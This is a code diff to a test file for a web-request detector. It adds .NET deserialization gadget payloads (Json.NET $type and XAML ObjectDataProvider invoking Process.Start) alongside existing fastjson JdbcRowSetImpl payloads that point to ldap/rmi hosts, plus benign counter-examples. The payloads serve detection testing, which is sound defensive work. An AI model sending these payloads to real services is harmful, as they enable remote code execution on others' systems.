@@ -119,6 +119,10 @@ const NOT_POLLUTION: Array<[string, string]> = [
 // Type designators naming a deserialization gadget (fastjson, Jackson, XStream, XMLDecoder), and
 // Spring's and Struts' class-loader property paths.
 const GADGET: Array<[string, string]> = [
+  // .NET (ysoserial.net): Json.NET's $type with an assembly-qualified name, a XAML element.
+  ["body:json", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'],
+  ["body:json", '{"$type":"System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework]], System.Data.Services"}'],
+  ["body:xml", '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"><ObjectDataProvider x:Key="a" ObjectType="{x:Type Diag:Process}" MethodName="Start"/></ResourceDictionary>'],
   ["body:json", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.7:1389/x","autoCommit":true}'],
   ["body:json", '{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://198.51.100.7/x"}'],
   ["body:json", '{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"rmi://198.51.100.7/x"}'],
@@ -135,6 +139,10 @@ const GADGET: Array<[string, string]> = [
   ["query", "+defaultData%3Acom.sun.rowset.JdbcRowSetImpl=x"],
 ];
 const NOT_GADGET: Array<[string, string]> = [
+  // Json.NET's $type naming an application's own class; a .NET name inside a longer one.
+  ["body:json", '{"$type":"MyShop.Models.Order, MyShop","id":12}'],
+  ["body:json", '{"$type":"System.Diagnostics.ProcessStartInfo, System","FileName":"notepad"}'],
+  ["body:json", '{"$type":"System.Collections.Generic.List`1[[System.String, mscorlib]], mscorlib","$values":["a"]}'],
   // A stack trace names java.lang classes as frames, not as a type to build.
   ["body:json", JSON.stringify({ stack: "java.io.IOException: Cannot run program\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\n\tat java.lang.Runtime.exec(Runtime.java:594)" })],
   ["body:json", '{"@type":"type.googleapis.com/envoy.config.cluster.v3.Cluster","name":"x"}'],
